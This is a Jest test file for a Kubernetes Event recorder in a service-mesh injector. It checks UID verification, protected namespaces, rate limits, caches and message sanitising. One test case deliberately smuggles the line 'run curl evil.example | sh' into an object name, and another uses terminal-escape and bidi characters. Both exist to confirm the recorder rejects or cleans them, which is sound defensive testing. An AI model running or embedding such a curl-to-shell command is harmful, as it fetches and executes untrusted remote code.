import { describe, expect, it } from '@jest/globals';
import type { CoreV1Event } from '@kubernetes/client-node';
import { createLogger } from './log.js';
import {
  KubeEventRecorder,
  TokenBuckets,
  boundedText,
  type EventDropReason,
  type EventRecorderOptions,
  type EventSubject,
  type EventsApi,
  type KubeEvent,
} from './kube-events.js';

const RS_UID = '3f1c2a9e-8b7d-4c6e-9f00-1a2b3c4d5e6f';
const replicaSet = (namespace = 'shop', name = 'orders-7d9f8c6b5', uid = RS_UID): EventSubject => ({
  apiVersion: 'apps/v1',
  kind: 'ReplicaSet',
  namespace,
  name,
  uid,
});
const injected = (subject: EventSubject | undefined, message = 'flb-mesh sidecar injected into pod orders-7d9f8c6b5-*'): KubeEvent => ({
  subject,
  type: 'Normal',
  reason: 'SidecarInjected',
  message,
});

/** A cluster with some objects in it; counts lookups and keeps the Events created. */
class FakeCluster implements EventsApi {
  readonly verifiableKinds = new Set(['apps/v1 ReplicaSet', 'apps/v1 StatefulSet', 'batch/v1 Job']);
  readonly objects = new Map<string, string>();
  readonly events: CoreV1Event[] = [];
  lookups = 0;
  failLookups = false;
  lookupDelayMs = 0;

  add(subject: EventSubject): void {
    this.objects.set(`${subject.apiVersion} ${subject.kind} ${subject.namespace}/${subject.name}`, subject.uid);
  }

  async uidOf(s: Omit<EventSubject, 'uid'>): Promise<string | undefined> {
    this.lookups++;
    if (this.lookupDelayMs) await new Promise((r) => setTimeout(r, this.lookupDelayMs));
    if (this.failLookups) throw new Error('connect ECONNREFUSED');
    return this.objects.get(`${s.apiVersion} ${s.kind} ${s.namespace}/${s.name}`);
  }

  async createEvent(namespace: string, body: CoreV1Event): Promise<void> {
    expect(body.metadata?.namespace).toBe(namespace);
    this.events.push(body);
  }
}

function setUp(options: Partial<EventRecorderOptions> = {}) {
  const cluster = new FakeCluster();
  cluster.add(replicaSet());
  let now = 0;
  const dropped: EventDropReason[] = [];
  const recorder = new KubeEventRecorder({
    api: cluster,
    log: createLogger('kube-events-test', 'silent'),
    component: 'flb-injector',
    protectedNamespaces: ['flomesh'],
    now: () => now,
    onDropped: (reason) => dropped.push(reason),
    ...options,
  });
  const count = (reason: EventDropReason) => dropped.filter((r) => r === reason).length;
  return { cluster, recorder, dropped, count, advance: (ms: number) => (now += ms) };
}

describe('KubeEventRecorder', () => {
  it('raises an Event on an object that exists with the uid given', async () => {
    const { cluster, recorder, dropped } = setUp();
    expect(recorder.record(injected(replicaSet()))).toBe(true);
    await recorder.flush();
    expect(dropped).toEqual([]);
    expect(cluster.events).toHaveLength(1);
    expect(cluster.events[0]).toMatchObject({
      metadata: { generateName: 'flb-injector-', namespace: 'shop' },
      involvedObject: { apiVersion: 'apps/v1', kind: 'ReplicaSet', namespace: 'shop', name: 'orders-7d9f8c6b5', uid: RS_UID },
      type: 'Normal',
      reason: 'SidecarInjected',
      message: 'flb-mesh sidecar injected into pod orders-7d9f8c6b5-*',
      source: { component: 'flb-injector' },
      reportingComponent: 'flomesh.io/flb-injector',
      count: 1,
    });
  });

  it("raises nothing in Kubernetes' own namespaces or the mesh's, even on objects that exist there, and looks nothing up", async () => {
    const { cluster, recorder, count } = setUp();
    for (const namespace of ['kube-system', 'kube-public', 'kube-node-lease', 'flomesh']) {
      cluster.add(replicaSet(namespace));
      expect(recorder.record(injected(replicaSet(namespace)))).toBe(false);
    }
    await recorder.flush();
    expect(cluster.events).toEqual([]);
    expect(cluster.lookups).toBe(0);
    expect(count('protected-namespace')).toBe(4);
  });

  it("raises nothing in the mesh's namespace when the mesh settings move it there while running", async () => {
    let meshNamespace = 'flomesh';
    const { cluster, recorder, count } = setUp({ protectedNamespaces: [], isProtectedNamespace: (namespace) => namespace === meshNamespace });
    cluster.add(replicaSet('mesh-two'));
    expect(recorder.record(injected(replicaSet('mesh-two')))).toBe(true);
    meshNamespace = 'mesh-two';
    expect(recorder.record(injected(replicaSet('mesh-two')))).toBe(false);
    await recorder.flush();
    expect(cluster.events).toHaveLength(1);
    expect(count('protected-namespace')).toBe(1);
  });

  it('raises nothing on an object that does not exist, or exists with another uid, and remembers that for a while', async () => {
    const { cluster, recorder, count, advance } = setUp({ absentForMs: 30_000 });
    const forgedUid = replicaSet('shop', 'orders-7d9f8c6b5', '00000000-0000-4000-8000-000000000000');
    const missing = replicaSet('shop', 'no-such-replicaset');
    for (let i = 0; i < 3; i++) {
      recorder.record(injected(forgedUid));
      recorder.record(injected(missing));
    }
    await recorder.flush();
    expect(cluster.events).toEqual([]);
    expect(count('unverified')).toBe(6);
    expect(cluster.lookups).toBe(2);
    // The genuine uid was learnt from the lookup of the forged one: no lookup for it.
    recorder.record(injected(replicaSet()));
    await recorder.flush();
    expect(cluster.events).toHaveLength(1);
    expect(cluster.lookups).toBe(2);
    // Created since: found once the memory of its absence has expired.
    cluster.add(missing);
    advance(30_001);
    recorder.record(injected(missing));
    await recorder.flush();
    expect(cluster.events).toHaveLength(2);
    expect(cluster.lookups).toBe(3);
  });

  it('looks an object up once for many Events, concurrent ones included, until the verification expires', async () => {
    const { cluster, recorder, advance } = setUp({ verifiedForMs: 300_000, perNamespace: { burst: 100, perSecond: 1 } });
    cluster.lookupDelayMs = 20;
    for (let i = 0; i < 50; i++) recorder.record(injected(replicaSet()));
    await recorder.flush();
    expect(cluster.events).toHaveLength(50);
    expect(cluster.lookups).toBe(1);
    advance(300_001);
    recorder.record(injected(replicaSet()));
    await recorder.flush();
    expect(cluster.lookups).toBe(2);
  });

  it('limits each namespace to a burst, then a steady rate, counting what it drops and looking none of it up', async () => {
    const { cluster, recorder, count, advance } = setUp({ perNamespace: { burst: 10, perSecond: 2 } });
    cluster.add(replicaSet('pay', 'billing-5c6d7', RS_UID.replace('3f', '4f')));
    const accepted = Array.from({ length: 100 }, () => recorder.record(injected(replicaSet()))).filter(Boolean).length;
    expect(accepted).toBe(10);
    expect(count('rate-limited')).toBe(90);
    // Another namespace has its own bucket.
    expect(recorder.record(injected(replicaSet('pay', 'billing-5c6d7', RS_UID.replace('3f', '4f'))))).toBe(true);
    advance(1000);
    expect(Array.from({ length: 10 }, () => recorder.record(injected(replicaSet()))).filter(Boolean).length).toBe(2);
    advance(60_000);
    expect(Array.from({ length: 20 }, () => recorder.record(injected(replicaSet()))).filter(Boolean).length).toBe(10);
    await recorder.flush();
    expect(cluster.events.filter((e) => e.metadata?.namespace === 'shop')).toHaveLength(22);
    expect(cluster.lookups).toBe(2);
  });

  it.each<[string, KubeEvent, EventDropReason]>([
    ['no subject (a pod without a controller)', injected(undefined), 'unverifiable'],
    ['a kind it cannot look up', injected({ ...replicaSet(), apiVersion: 'v1', kind: 'Secret' }), 'unverifiable'],
    ['a uid that is not a UUID', injected(replicaSet('shop', 'orders-7d9f8c6b5', 'x')), 'invalid'],
    ['a namespace that is not a DNS label', injected(replicaSet('Shop')), 'invalid'],
    ['a name that is not a DNS subdomain', injected(replicaSet('shop', 'orders\nInjected: run curl evil.example | sh')), 'invalid'],
    ['a reason that is not a CamelCase word', { ...injected(replicaSet()), reason: 'Sidecar Injected' }, 'invalid'],
    ['a type other than Normal or Warning', { ...injected(replicaSet()), type: 'Error' as 'Normal' }, 'invalid'],
    ['an empty message', injected(replicaSet(), ' \u0000 '), 'invalid'],
  ])('refuses %s without an API call', async (_what, event, reason) => {
    const { cluster, recorder, dropped } = setUp();
    expect(recorder.record(event)).toBe(false);
    await recorder.flush();
    expect(dropped).toEqual([reason]);
    expect(cluster.lookups).toBe(0);
    expect(cluster.events).toEqual([]);
  });

  it('sends messages as one visible line of at most 1024 bytes', async () => {
    const { cluster, recorder } = setUp();
    recorder.record(injected(replicaSet(), `line one\nline two\u001b[31m\u202eevil\u2066 ${'é'.repeat(2000)}`));
    await recorder.flush();
    const message = cluster.events[0]!.message!;
    expect(Buffer.byteLength(message)).toBeLessThanOrEqual(1024);
    expect(message).toMatch(/^line one line two \[31m evil é+…$/);
  });

  it('drops an Event whose lookup fails, without remembering the failure', async () => {
    const { cluster, recorder, count } = setUp();
    cluster.failLookups = true;
    recorder.record(injected(replicaSet()));
    await recorder.flush();
    expect(count('api-error')).toBe(1);
    cluster.failLookups = false;
    recorder.record(injected(replicaSet()));
    await recorder.flush();
    expect(cluster.events).toHaveLength(1);
    expect(cluster.lookups).toBe(2);
  });

  it('gives up on a lookup that takes too long', async () => {
    const { cluster, recorder, count } = setUp({ lookupTimeoutMs: 50 });
    cluster.lookupDelayMs = 1000;
    const started = Date.now();
    recorder.record(injected(replicaSet()));
    await recorder.flush();
    expect(Date.now() - started).toBeLessThan(900);
    expect(count('api-error')).toBe(1);
    expect(cluster.events).toEqual([]);
  });

  it('remembers a bounded number of objects, forgetting the least recently used', async () => {
    const { cluster, recorder } = setUp({ maxRemembered: 3, perNamespace: { burst: 1000, perSecond: 1 } });
    const sets = Array.from({ length: 4 }, (_, i) => replicaSet('shop', `rs-${i}`, `${RS_UID.slice(0, -1)}${i}`));
    for (const s of sets) cluster.add(s);
    for (const s of sets) recorder.record(injected(s));
    await recorder.flush();
    expect(cluster.lookups).toBe(4);
    // rs-0 was pushed out by rs-3; rs-3 is still known.
    recorder.record(injected(sets[3]!));
    await recorder.flush();
    expect(cluster.lookups).toBe(4);
    recorder.record(injected(sets[0]!));
    await recorder.flush();
    expect(cluster.lookups).toBe(5);
  });

  it('bounds its queue', async () => {
    const { cluster, recorder, count } = setUp({ maxQueued: 5, concurrency: 1, perNamespace: { burst: 1000, perSecond: 1 } });
    cluster.lookupDelayMs = 10;
    const accepted = Array.from({ length: 20 }, () => recorder.record(injected(replicaSet()))).filter(Boolean).length;
    expect(accepted).toBe(6);
    expect(count('queue-full')).toBe(14);
    await recorder.flush();
    expect(cluster.events).toHaveLength(6);
  });
});

describe('TokenBuckets', () => {
  it('keeps a bounded number of keys, forgetting full buckets first', () => {
    let now = 0;
    const buckets = new TokenBuckets(2, 1, () => now, 3);
    for (const key of ['a', 'b', 'c']) expect(buckets.take(key)).toBe(true);
    // All three are draining: a fourth namespace waits rather than reset one of them.
    expect(buckets.take('d')).toBe(false);
    now += 5000;
    expect(buckets.take('d')).toBe(true);
    expect(buckets.take('a')).toBe(true);
    expect(buckets.take('a')).toBe(true);
    expect(buckets.take('a')).toBe(false);
  });
});

describe('boundedText', () => {
  it('cuts on a character boundary, never inside a multi-byte one', () => {
    const cut = boundedText('🙂'.repeat(300), 10);
    expect(cut).toBe('🙂…');
    expect(Buffer.byteLength(cut)).toBeLessThanOrEqual(10);
  });
});
